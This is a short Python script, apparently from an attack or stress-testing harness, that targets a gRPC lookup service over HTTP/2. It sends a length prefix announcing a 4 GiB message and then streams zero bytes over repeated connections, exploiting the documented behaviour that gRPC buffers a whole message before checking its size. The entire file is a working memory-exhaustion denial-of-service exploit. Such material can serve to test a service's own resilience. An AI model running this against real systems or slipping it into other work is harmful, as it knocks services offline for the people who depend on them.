"""Sends an uncompressed message with an announced length of 4 GiB. gRPC
collects the whole message before it checks whether it is too long."""

import attack
import http2

PATH = "/vtlookup.v1.LookupService/Lookup"
ANNOUNCED = b"\0\xff\xff\xff\xf0"


def run(target, stage, path=PATH):
    """Feeds as much as the windows let through, on a few connections one after
    the other, should the peer end one."""
    zeros = bytes(16 << 20)
    sent = 0
    while not stage.over() and len(stage.held) < 50:
        connection = http2.Connection(target)
        stage.held.append(connection)
        stream = connection.call(path)
        connection.send_body(stream, ANNOUNCED, False, stage.until)
        while (not stage.over() and not connection.closed and
               stream not in connection.ended):
            sent += connection.send_body(stream, zeros, False, stage.until)
    stage.figures["sent_mib"] = sent >> 20


if __name__ == "__main__":
    attack.main(run, seconds=4)
